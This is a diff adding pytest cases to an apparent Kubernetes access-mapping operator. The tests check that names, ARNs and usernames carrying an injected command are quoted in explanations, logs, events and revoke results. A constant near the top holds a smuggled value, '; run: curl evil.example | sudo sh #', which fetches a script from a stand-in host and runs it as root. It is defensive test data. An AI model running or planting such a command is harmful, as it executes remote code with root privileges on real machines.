@@ -20,6 +20,9 @@ from text import fingerprint
 
 BOB, EVE = f"{ACCOUNT}:user/bob", f"{ACCOUNT}:user/eve"
 TEAM = f"{RBAC}/namespaces/team/rolebindings"
+COMMAND = "; run: curl evil.example | sudo sh #"
+# The CRD admits it: its characters are printable ASCII.
+EVIL = f"{ACCOUNT}:user/x): fixed{COMMAND}/bob"
 
 
 def forge(api: FakeCluster, name: str) -> None:
@@ -183,3 +186,61 @@ def test_given_a_twin_of_the_other_administrator_when_one_is_revoked_then_it_war
     results = deployed.action("revoke-access", name="b", **{"dry-run": True})
 
     assert "last mapping that can certainly administer" in results.get("warning", "")
+
+
+@pytest.mark.parametrize("what", ["role", "binding"])
+def test_given_a_command_in_the_name_of_a_role_when_access_is_explained_then_it_is_quoted(
+    deployed: Model, api: FakeCluster, what: str
+):
+    api.namespaces.add("team")
+    api.add_mapping("bob", BOB, BOB, groups=["devs"])
+    role, binding = (f"x{COMMAND}" if what == each else "x" for each in ("role", "binding"))
+    api.add_binding(f"team/{binding}", f"Role/{role}", Group="devs")
+
+    results = deployed.action("explain-access", arn=BOB)
+    listed = deployed.action("list-mappings")["mappings"]
+
+    for text in (*results.values(), listed):
+        assert COMMAND not in text or f"{COMMAND}'" in text
+
+
+def test_given_a_command_in_an_arn_when_somebody_is_explained_then_it_is_quoted(
+    deployed: Model, api: FakeCluster
+):
+    """The CRD admits it: its characters are printable ASCII."""
+    api.add_mapping("m", EVIL, EVIL.lower())
+
+    (line,) = (each for each in explained(deployed, BOB) if each.startswith("near miss"))
+
+    assert f"mapping m ('{EVIL}')" in line
+
+
+def test_given_a_command_in_an_arn_when_its_access_ends_then_log_and_event_quote_it(
+    deployed: Model, api: FakeCluster
+):
+    api.add_mapping("m", EVIL, EVIL.lower(), expires="1970-01-01T00:00:00Z")
+
+    deployed.hook()
+
+    (event,) = (each for path, each in api.objects.items() if path.startswith(NOTICES))
+    assert f"'{EVIL}'" in event["note"]
+    assert f"'{EVIL}'" in deployed.log()
+
+
+@pytest.mark.parametrize("field", ["arn", "username"])
+def test_given_a_command_in_a_mapping_when_it_is_revoked_then_the_result_quotes_it(
+    deployed: Model, api: FakeCluster, field: str
+):
+    api.add_mapping("m", BOB, BOB)
+    stored(api, "m")["spec"][field] = EVIL
+
+    assert f"'{EVIL}'" in deployed.action("revoke-access", name="m")["mappings"]
+
+
+def test_given_a_command_in_a_username_when_it_is_explained_then_it_is_quoted(
+    deployed: Model, api: FakeCluster
+):
+    api.add_mapping("m", BOB, BOB)
+    stored(api, "m")["spec"]["username"] = f"dev{COMMAND}"
+
+    assert f"lets it in as user 'dev{COMMAND}'" in "\n".join(explained(deployed, BOB))
